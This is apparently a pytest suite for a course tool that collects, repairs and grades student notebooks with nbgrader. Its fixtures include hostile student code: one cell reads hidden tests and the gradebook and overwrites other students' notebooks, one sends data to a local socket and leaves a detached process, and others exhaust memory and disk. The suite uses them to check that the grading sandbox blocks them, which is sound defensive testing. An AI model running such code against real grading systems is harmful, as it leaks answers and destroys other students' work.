"""The instructor's classroom tool (course_tools.classroom) end to end, through its CLI and nbgrader's real CLI.

One inbox of files as students send them (Colab downloads, copies, duplicates, broken files) is collected,
repaired and graded in one autograde run of chapter 1; each bad input listed in issue 6 then gets its own
test of the outcome: the score in the gradebook, the problem in the grade sheet, and the other students
still graded. Several defects that touch different exercises share one notebook to keep the run short.
"""

import csv
import json
import os
import re
import shutil
import socket
import subprocess
import sys

import nbformat
import psutil
import pytest
from nbgrader.api import Gradebook

from course_tools.classroom import collect, repair
from helpers import ROOT, fill_release, make_course, solution_sources

CHAPTER = "01_linear_models"
CELL_TIMEOUT = 40  # seconds per cell: chapter 1's slowest cell takes a few seconds in quick mode on 2 idle cores
MEGABYTES_OF_OUTPUT = 3_000_000


def answers():
    return solution_sources(ROOT / "solutions" / CHAPTER / f"{CHAPTER}.ipynb")


def student_notebook(release, **changes):
    """The release with every exercise answered correctly, except the answers given in ``changes``."""
    return fill_release(release, {**answers(), **changes})


def strip_nbgrader_metadata(nb):
    """What Colab-edited notebooks often look like: no nbgrader metadata, Colab's own metadata instead."""
    for cell in nb.cells:
        cell.metadata.pop("nbgrader", None)
        cell.metadata["id"] = cell.get("id", "x")
    nb.metadata["colab"] = {"provenance": []}
    return nb


def delete_cell(nb, grade_id):
    nb.cells = [cell for cell in nb.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != grade_id]
    return nb


def set_source(nb, grade_id, source):
    for cell in nb.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == grade_id:
            cell.source = source
    return nb


def write(path, nb, version=4, mtime=None):
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nbformat.convert(nb, version) if version != 4 else nb, str(path))
    if mtime:
        os.utime(path, (mtime, mtime))
    return path


# A student's answer cell that reads the hidden tests and the gradebook and prints them, then overwrites every
# other notebook of the course it can reach (tests/test_grading_sandbox.py tries each attack on its own).
ATTACK_READ_AND_WRITE = """
import glob, os
for path in glob.glob('%(course)s/solutions/*/*.ipynb') + ['%(course)s/gradebook.db', '../../../gradebook.db']:
    try:
        print('ATTACK read', path, open(path, errors='replace').read())
    except OSError as error:
        print('ATTACK refused', path, type(error).__name__)
for path in glob.glob('%(course)s/*/*/*/*.ipynb') + glob.glob('../../../*/*/*/*.ipynb'):
    if os.path.abspath(path) != os.path.abspath('%(chapter)s.ipynb'):
        try:
            open(path, 'w').write('{}')
            print('ATTACK overwrote', path)
        except OSError as error:
            print('ATTACK refused', path, type(error).__name__)
print('ATTACK done')
""".replace("%(chapter)s", CHAPTER)
# ... and one that leaks over the network and leaves a process running after grading
ATTACK_NETWORK_AND_PROCESS = """
import socket, subprocess
try:
    socket.create_connection(('127.0.0.1', %(port)d), timeout=3).sendall(b'leak')
    print('ATTACK connected')
except OSError as error:
    print('ATTACK refused', type(error).__name__)
subprocess.Popen(['sleep', '%(token)s'], start_new_session=True, stdout=subprocess.DEVNULL)
"""
SLEEP_TOKEN = "987123"


def hidden_test_lines():
    """The lines of chapter 1's hidden tests (the attacker must never get them into its outputs)."""
    nb = nbformat.read(ROOT / "solutions" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    lines = []
    for cell in nb.cells:
        if "### BEGIN HIDDEN TESTS" in cell.source:
            block = cell.source.split("### BEGIN HIDDEN TESTS")[1].split("### END HIDDEN TESTS")[0]
            lines += [line.strip() for line in block.splitlines() if len(line.strip()) > 20]
    return lines


def build_inbox(inbox, release, course, port):
    """Files as a class sends them. Returns {student: expected points lost} for the graded students."""
    wrong_softmax = "import numpy as np\ndef softmax(logits):\n    return np.zeros_like(logits)"
    # two files from one student, named with the student id and a case variant: the newer one counts
    write(inbox / "bob_01_Linear_Models.ipynb", student_notebook(release, softmax_solution=wrong_softmax),
          mtime=1_700_000_000)
    write(inbox / "bob_01_linear_models (1).ipynb", student_notebook(release), mtime=1_700_100_000)
    # Colab: "Copy of", every cell's nbgrader metadata gone; and saved in an old notebook format
    write(inbox / "cleo" / f"Copy of {CHAPTER}.ipynb", strip_nbgrader_metadata(student_notebook(release)),
          version=3)
    # a syntax error (softmax, 2 points), sys.exit() (output choice, 1 point), an endless loop (accuracy,
    # 1 point), megabytes of output (next to a right answer: no points lost)
    param_count = answers()["param_count_solution"]
    write(inbox / "eve" / f"{CHAPTER}.ipynb", student_notebook(
        release, softmax_solution="def softmax(logits)\n    return logits",
        output_choice_solution='import sys\nsys.exit("done")',
        accuracy_solution="while True:\n    pass",
        param_count_solution=f'print("x" * {MEGABYTES_OF_OUTPUT})\n{param_count}'))
    # a deleted answer cell (accuracy, 1 point), a deleted test cell under a wrong softmax (2 points),
    # a test cell rewritten to `pass` under a wrong answer (output choice, 1 point), and code that kills
    # its kernel (parameter count, 1 point)
    nb = student_notebook(release, softmax_solution=wrong_softmax, output_choice_solution='ANSWER_OUTPUT = "a"',
                          param_count_solution="import os\nos._exit(1)")
    nb = delete_cell(delete_cell(nb, "accuracy_solution"), "softmax_tests")
    write(inbox / "jay" / f"{CHAPTER}.ipynb", set_source(nb, "output_choice_tests", "pass"))
    # attacks with right answers (score: full marks), and a student graded after them whose name is not ASCII
    write(inbox / "mallory" / f"{CHAPTER}.ipynb", student_notebook(
        release, softmax_solution=f"{ATTACK_READ_AND_WRITE % {'course': str(course)}}\n{answers()['softmax_solution']}",
        scale_solution=f"{ATTACK_NETWORK_AND_PROCESS % {'port': port, 'token': SLEEP_TOKEN}}\n{answers()['scale_solution']}"))
    write(inbox / "Zoë" / f"{CHAPTER}.ipynb", student_notebook(release))
    # attacks on the machine: unbounded memory (parameter count, 1 point), a huge file (output choice, 1 point)
    write(inbox / "oscar" / f"{CHAPTER}.ipynb", student_notebook(
        release, param_count_solution="chunks = []\nwhile True:\n    chunks.append(b'x' * 2 ** 26)",
        output_choice_solution="with open('huge.bin', 'wb') as f:\n    while True:\n        f.write(b'x' * 2 ** 20)"))
    # broken files: invalid JSON, an empty file
    (inbox / "may").mkdir()
    (inbox / "may" / f"{CHAPTER}.ipynb").write_text('{"cells": [', encoding="utf-8")
    (inbox / "ned").mkdir()
    (inbox / "ned" / f"{CHAPTER}.ipynb").write_text("", encoding="utf-8")
    # a non-notebook and a notebook of an unknown assignment
    (inbox / "ada").mkdir()
    (inbox / "ada" / "notes.pdf").write_bytes(b"%PDF-1.4\n")
    write(inbox / "ada" / "99_quantum_computing.ipynb", nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_markdown_cell("# Quantum"), nbformat.v4.new_code_cell("print(1)")]))
    return {"bob": 0, "cleo": 0, "eve": 4, "jay": 5, "may": "all", "ned": "all", "mallory": 0, "zoë": 0,
            "oscar": 2}


def classroom(course, *args, timeout=900):
    result = subprocess.run([sys.executable, "-m", "course_tools.classroom", "--course", str(course), *args],
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=timeout)
    assert result.returncode == 0, result.stdout[-5000:]
    return result.stdout


def snapshot(folder):
    return {str(p.relative_to(folder)): (p.read_bytes(), p.stat().st_mtime) for p in folder.rglob("*") if p.is_file()}


@pytest.fixture(scope="module")
def classroom_run(tmp_path_factory):
    course = make_course(tmp_path_factory.mktemp("classroom"))
    release_out = classroom(course, "release", CHAPTER)
    release = course / "chapters" / CHAPTER / f"{CHAPTER}.ipynb"
    inbox = tmp_path_factory.mktemp("inbox")
    listener = socket.create_server(("127.0.0.1", 0))  # the attacker tries to send it the hidden tests
    listener.setblocking(False)
    expected = build_inbox(inbox, release, course, listener.getsockname()[1])
    before = snapshot(inbox)
    collect_out = classroom(course, "collect", str(inbox))
    grade_out = classroom(course, "grade", CHAPTER, "--jobs", "2", "--timeout", str(CELL_TIMEOUT),
                          "--notebook-timeout", "300", "--memory-limit", "3G", "--disk-limit", "100M")
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    leftover = [p.pid for p in psutil.process_iter(["cmdline"]) if SLEEP_TOKEN in (p.info["cmdline"] or [])]
    classroom(course, "export", "--output", str(course / "grades.csv"))
    with open(course / "grades.csv", newline="", encoding="utf-8") as handle:
        sheet = list(csv.DictReader(handle))
    return {"course": course, "inbox": inbox, "before": before, "expected": expected, "sheet": sheet,
            "output": release_out + collect_out + grade_out, "connected": connected, "leftover": leftover}


def graded(run, student):
    """(score, max score, {test cell: score}) of a student's chapter 1 in the gradebook."""
    with Gradebook(f"sqlite:///{run['course'] / 'gradebook.db'}") as gb:
        submission = gb.find_submission(CHAPTER, student)
        cells = {g.name: g.score for nb in submission.notebooks for g in nb.grades}
        return submission.score, submission.max_score, cells


def row(run, student):
    rows = [r for r in run["sheet"] if r["student"] == student and r["assignment"] == CHAPTER]
    assert len(rows) == 1, (student, run["sheet"])
    return rows[0]


def test_every_student_gets_exactly_one_score_and_feedback(classroom_run):
    course = classroom_run["course"]
    for student, lost in classroom_run["expected"].items():
        score, max_score, _ = graded(classroom_run, student)
        assert score == (0 if lost == "all" else max_score - lost), (student, row(classroom_run, student))
        assert (course / "feedback" / student / CHAPTER / f"{CHAPTER}.html").is_file(), student
        sheet_row = row(classroom_run, student)
        assert float(sheet_row["score"]) == score and float(sheet_row["max_score"]) == max_score
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        students = sorted(s.student.id for s in gb.find_assignment(CHAPTER).submissions)
    assert students == sorted(classroom_run["expected"]), "exactly one submission per student"


def test_originals_are_never_modified_or_deleted(classroom_run):
    assert snapshot(classroom_run["inbox"]) == classroom_run["before"]


def test_colab_copy_with_all_metadata_stripped_is_repaired_and_scores_full_marks(classroom_run):
    assert (classroom_run["course"] / "submitted" / "cleo" / CHAPTER / f"{CHAPTER}.ipynb").is_file()
    assert "nbgrader metadata was missing" in row(classroom_run, "cleo")["problems"]
    assert row(classroom_run, "cleo")["file"] == f"cleo/Copy of {CHAPTER}.ipynb"


def test_old_notebook_format_is_upgraded(classroom_run):
    assert "old notebook format (nbformat 3)" in row(classroom_run, "cleo")["problems"]


def test_duplicates_from_one_student_newest_counts_and_others_are_listed(classroom_run):
    bob = row(classroom_run, "bob")
    assert bob["file"] == "bob_01_linear_models (1).ipynb"
    assert "2 files received" in bob["problems"] and "bob_01_Linear_Models.ipynb" in bob["problems"]


def test_syntax_error_loses_only_that_exercise(classroom_run):
    _, _, cells = graded(classroom_run, "eve")
    assert cells["softmax_tests"] == 0 and cells["model_tests"] == 2
    assert "softmax_solution has a syntax error" in row(classroom_run, "eve")["problems"]


def test_sys_exit_stops_only_its_cell(classroom_run):
    _, _, cells = graded(classroom_run, "eve")
    assert cells["output_choice_tests"] == 0 and cells["scale_tests"] == 1
    assert "output_choice_solution called sys.exit()" in row(classroom_run, "eve")["problems"]


def test_megabytes_of_output_are_cut(classroom_run):
    _, _, cells = graded(classroom_run, "eve")
    assert cells["param_count_tests"] == 1, "printing a lot is not wrong"
    assert "param_count_solution printed too much output" in row(classroom_run, "eve")["problems"]
    graded_nb = classroom_run["course"] / "autograded" / "eve" / CHAPTER / f"{CHAPTER}.ipynb"
    assert graded_nb.stat().st_size < MEGABYTES_OF_OUTPUT / 4


def test_infinite_loop_is_stopped_by_the_cell_timeout(classroom_run):
    _, _, cells = graded(classroom_run, "eve")
    assert cells["accuracy_tests"] == 0 and cells["pipeline_tests"] == 2
    assert f"ran longer than {CELL_TIMEOUT} s" in row(classroom_run, "eve")["problems"]


def test_code_that_kills_its_kernel_loses_that_cell_only(classroom_run):
    _, _, cells = graded(classroom_run, "jay")
    assert cells["param_count_tests"] == 0 and cells["model_tests"] == 2
    assert "param_count_solution stopped the Python kernel" in row(classroom_run, "jay")["problems"]


def test_deleted_answer_cell_is_put_back_blank(classroom_run):
    _, _, cells = graded(classroom_run, "jay")
    assert cells["accuracy_tests"] == 0
    assert "answer cell accuracy_solution is missing" in row(classroom_run, "jay")["problems"]


def test_deleted_test_cell_is_put_back_and_still_grades(classroom_run):
    _, _, cells = graded(classroom_run, "jay")
    assert cells["softmax_tests"] == 0, "the wrong softmax must be caught by the restored test"
    assert "test cell softmax_tests is missing" in row(classroom_run, "jay")["problems"]


def test_test_cell_rewritten_to_pass_is_restored(classroom_run):
    _, _, cells = graded(classroom_run, "jay")
    assert cells["output_choice_tests"] == 0, "the wrong answer must be caught by the original test"
    assert "test cell output_choice_tests was edited" in row(classroom_run, "jay")["problems"]


@pytest.mark.parametrize("student,words", [("may", "not valid JSON"), ("ned", "the file is empty")])
def test_unreadable_files_score_zero_with_a_reason(classroom_run, student, words):
    problems = row(classroom_run, student)["problems"]
    assert words in problems and "recorded as 0" in problems


def test_non_notebook_and_unknown_assignment_are_reported(classroom_run):
    by_file = {r["file"]: r for r in classroom_run["sheet"]}
    assert "not a notebook" in by_file["ada/notes.pdf"]["problems"]
    assert "unknown assignment" in by_file["ada/99_quantum_computing.ipynb"]["problems"]
    assert by_file["ada/notes.pdf"]["student"] == "ada" and by_file["ada/notes.pdf"]["score"] == ""


def test_log_and_report_are_readable(classroom_run):
    course = classroom_run["course"]
    log = json.loads((course / "submitted" / ".classroom.json").read_text())
    assert log["submissions"][f"{CHAPTER}/jay"]["grade"]
    report = classroom(course, "report")
    assert "jay" in report and "stopped the Python kernel" in report


def _outputs(notebook_path):
    nb = nbformat.read(notebook_path, as_version=4)
    return "\n".join(str(o.get("text", "")) + str(o.get("data", "")) + str(o.get("evalue", ""))
                     for cell in nb.cells if cell.cell_type == "code" for o in cell.outputs)


def test_attacker_gets_what_its_answers_earn_and_reaches_nothing(classroom_run):
    course = classroom_run["course"]
    outputs = _outputs(course / "autograded" / "mallory" / CHAPTER / f"{CHAPTER}.ipynb")
    assert "ATTACK done" in outputs and "ATTACK refused" in outputs, "the attack code ran"
    assert "ATTACK read" not in outputs and "ATTACK overwrote" not in outputs and "ATTACK connected" not in outputs
    feedback = (course / "feedback" / "mallory" / CHAPTER / f"{CHAPTER}.html").read_text(encoding="utf-8")
    hidden = hidden_test_lines()
    assert hidden, "chapter 1 has hidden tests"
    for line in hidden:
        assert line not in outputs and line not in feedback, f"hidden test leaked: {line}"
    assert "SQLite format" not in outputs
    assert not classroom_run["connected"], "the sandbox has no network"
    assert not classroom_run["leftover"], "a process the student started outlived grading"


def test_other_students_work_is_untouched_by_the_attacker(classroom_run):
    course = classroom_run["course"]
    for student in ("bob", "zoë", "cleo"):
        for folder in ("submitted", "autograded"):
            nb = nbformat.read(course / folder / student / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
            assert len(nb.cells) > 10, (folder, student)


def test_memory_and_disk_limits_stop_only_their_cell(classroom_run):
    _, _, cells = graded(classroom_run, "oscar")
    assert cells["param_count_tests"] == 0 and cells["output_choice_tests"] == 0 and cells["model_tests"] == 2
    problems = row(classroom_run, "oscar")["problems"]
    assert "param_count_solution was stopped because it used more than 3.0 GiB of memory" in problems
    assert "output_choice_solution was stopped because it wrote more than 100 MiB of files" in problems
    written = sum(p.stat().st_size for p in (classroom_run["course"] / "autograded" / "oscar").rglob("*"))
    assert written < 1024 ** 3


def test_names_that_differ_only_outside_ascii_stay_different_students(tmp_path):
    course = make_course(tmp_path / "course")
    shutil.copytree(ROOT / "chapters" / CHAPTER, course / "chapters" / CHAPTER)
    release = course / "chapters" / CHAPTER / f"{CHAPTER}.ipynb"
    inbox = tmp_path / "inbox"
    for name in ("Zoë", "Zoé", "ZOË", "Ada Lovelace", "ada_lovelace", "Zoe\u0308"):  # the last is Zoë in NFD
        write(inbox / name / f"{CHAPTER}.ipynb", student_notebook(release))
    classroom(course, "collect", str(inbox))
    log = json.loads((course / "submitted" / ".classroom.json").read_text())
    students = sorted(item["student"] for item in log["submissions"].values())
    assert students[0] == "ada_lovelace" and re.fullmatch(r"ada_lovelace-[0-9a-f]{6}", students[1]), students
    assert students[2:] == ["zoé", "zoë"], "Zoë, ZOË and its NFD spelling are one student; Zoé another"
    suffixed = log["submissions"][f"{CHAPTER}/{students[1]}"]
    assert "reads as 'ada_lovelace', the id of another student" in suffixed["collect"][0]
    classroom(course, "collect", str(inbox))
    again = json.loads((course / "submitted" / ".classroom.json").read_text())
    assert sorted(item["student"] for item in again["submissions"].values()) == students, "ids are stable"


def test_grading_refuses_without_a_sandbox_unless_asked(tmp_path):
    course = make_course(tmp_path / "course")
    result = subprocess.run([sys.executable, "-m", "course_tools.classroom", "--course", str(course),
                             "grade", "--bwrap", "/nonexistent/bwrap"], stdout=subprocess.PIPE,
                            stderr=subprocess.STDOUT, text=True, timeout=300)
    assert result.returncode != 0
    assert "install Debian's package bubblewrap" in result.stdout and "--no-sandbox" in result.stdout
    assert not (course / "autograded").exists()


# ---- fast checks of the matching rules, without grading ------------------------------------------------



@pytest.mark.parametrize("name,chapter,rest", [
    (f"{CHAPTER}.ipynb", CHAPTER, ""),
    (f"Copy of {CHAPTER}.ipynb", CHAPTER, ""),
    (f"{CHAPTER} (3).ipynb", CHAPTER, ""),
    ("01-Linear-Models-Copy1.ipynb", CHAPTER, ""),
    ("Ada Lovelace - Copy of 01_LINEAR_MODELS (1).ipynb", CHAPTER, "ada_lovelace"),
    (f"{CHAPTER}_s1234.ipynb", CHAPTER, "s1234"),
    ("01_linear_models_extra_notes.ipynb", CHAPTER, "extra_notes"),
    ("Untitled0.ipynb", None, None),
    ("011_linear_models.ipynb", None, None),
])
def test_file_names_name_their_chapter(name, chapter, rest):
    assert collect.match_chapter_name(name, [CHAPTER, "02_deep_networks"]) == (chapter, rest)


def test_copy_numbers_order_duplicates():
    assert [collect.copy_number(n) for n in ("a.ipynb", "a (1).ipynb", "a (12).ipynb", "a-Copy2.ipynb")] \
        == [0, 1, 12, 2]


def test_repair_restores_metadata_among_scratch_cells_and_deleted_cells():
    release = nbformat.read(ROOT / "chapters" / CHAPTER / f"{CHAPTER}.ipynb", as_version=4)
    nb = strip_nbgrader_metadata(student_notebook(ROOT / "chapters" / CHAPTER / f"{CHAPTER}.ipynb"))
    scratch = nbformat.v4.new_code_cell("print('trying things')")
    nb.cells.insert(15, scratch)                                         # after the softmax answer
    tests = [i for i, c in enumerate(release.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "scale_tests"]
    del nb.cells[tests[0] + 1]                                          # the scale tests (shifted by one)
    problems = repair.repair_notebook(nb, release)
    order = [c.metadata["nbgrader"]["grade_id"] for c in nb.cells if "nbgrader" in c.metadata]
    assert order == [c.metadata["nbgrader"]["grade_id"] for c in release.cells if "nbgrader" in c.metadata]
    assert "nbgrader" not in nb.cells[15].metadata and nb.cells[15].source == scratch.source
    solution = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "softmax_solution")
    assert "YOUR CODE HERE" not in solution.source, "the student's answer, not the blank, must carry the id"
    assert any("test cell scale_tests is missing" in p for p in problems), problems
